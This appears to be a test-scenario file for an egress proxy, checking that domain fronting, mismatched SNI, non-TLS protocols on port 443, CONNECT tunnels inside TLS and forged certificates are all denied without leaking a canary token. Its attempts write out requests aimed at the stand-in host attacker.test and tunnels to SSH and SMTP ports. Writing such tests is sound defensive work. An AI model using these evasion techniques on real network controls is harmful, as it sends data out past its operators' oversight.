# What TLS says and what is inside of it.

scenario "fronting-by-host-header" {
  describe = "the connection is for a granted tenant of a network, the request inside for another"
  cases    = ["TLS-02"]
  policy   = "policies/web.hcl"
  for_each = {
    tenant   = "mallory.cdn.example.com"
    attacker = "attacker.test"
    upper    = "MALLORY.cdn.example.com"
    port     = "echo.example.com:8443"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = crlf("GET /v1/items/1 HTTP/1.1\nHost: ${each.value}\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    reason  = ["authority_mismatch", "no_grant", "port_not_granted"]
    leak    = none
  }
}

scenario "fronting-over-http2" {
  describe = "the same with :authority"
  cases    = ["TLS-02"]
  policy   = "policies/web.hcl"
  attempt {
    http {
      version = "2"
      url     = "https://echo.example.com/v1/items/1"
      headers = {
        Host   = "attacker.test"
        X-Note = canary.token
      }
    }
  }
  expect {
    verdict = "deny"
    reason  = ["authority_mismatch", "no_grant"]
    leak    = none
  }
}

scenario "server-name-of-somebody-else" {
  describe = "a connection to a granted name whose ClientHello asks for another"
  cases    = ["TLS-01", "TLS-03"]
  policy   = "policies/web.hcl"
  for_each = {
    attacker = "attacker.test"
    tenant   = "mallory.cdn.example.com"
    none     = "-"
    address  = "203.0.113.9"
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      sni     = each.value
      bytes   = crlf("GET /v1/items/1 HTTP/1.1\nHost: ${each.key == "none" ? "attacker.test" : each.value}\nX-Note: ${canary.token}\n\n")
    }
  }
  expect {
    verdict = "deny"
    reason  = ["authority_mismatch", "no_grant", "tls_failed"]
    leak    = none
  }
}

scenario "no-tls-where-tls-is-granted" {
  describe = "other protocols, and bytes without one, sent into a connection for a granted host"
  cases    = ["TLS-04", "NET-09"]
  policy   = "policies/llm.hcl"
  for_each = {
    ssh    = "SSH-2.0-client\r\n"
    http   = "POST /v1/files HTTP/1.1\r\nHost: llm.example.com\r\n\r\n"
    smtp   = "EHLO client\r\n"
    socks5 = "\u0005\u0002\u0000\u0002"
    bytes  = ""
    h2     = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
  }
  attempt {
    tcp {
      to    = "llm.example.com:443"
      bytes = "${each.value}${canary.token}"
    }
  }
  expect {
    verdict = "deny"
    reason  = ["not_tls", "protocol_not_granted"]
    leak    = none
  }
}

scenario "connect-inside-of-a-connection" {
  describe = "a proxy is asked for inside of TLS: to tunnel on to wherever"
  cases    = ["TLS-08", "NET-10"]
  policy   = "policies/web.hcl"
  for_each = ["attacker.test:443", "echo.example.com:22", "echo.example.com:443", "mail.example.com:25"]
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      bytes   = crlf("CONNECT ${each.value} HTTP/1.1\nHost: ${each.value}\nX-Note: ${canary.token}\n\n${canary.token}")
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "unknown-protocol-in-the-handshake" {
  describe = "a ClientHello that offers only what nobody can read"
  cases    = ["TLS-09"]
  policy   = "policies/web.hcl"
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      alpn    = ["grpc-exp"]
      bytes   = canary.token
    }
  }
  attempt {
    raw {
      connect = "echo.example.com:443"
      tls     = true
      alpn    = ["http/1.1"]
      bytes   = "${canary.token}\r\n\r\n"
    }
  }
  expect {
    verdict = "deny"
    leak    = none
  }
}

scenario "certificate-that-is-not-the-hosts" {
  describe = "somebody stands between: the request and the credential in it stay here"
  cases    = ["TLS-06"]
  policy   = "policies/triage.hcl"
  for_each = ["self_signed", "expired", "wrong_name"]
  given {
    credential = { bot = canary.bot }
    certificate "api.example.com" { fault = each.value }
  }
  attempt {
    http {
      method  = "PUT"
      url     = "https://api.example.com/repos/acme/app/issues/1/labels"
      headers = { Content-Type = "application/json", X-Note = canary.token }
      body    = json({ labels = ["bug"] })
    }
  }
  expect {
    leak    = none
    arrives = none
    status  = 502
  }
}
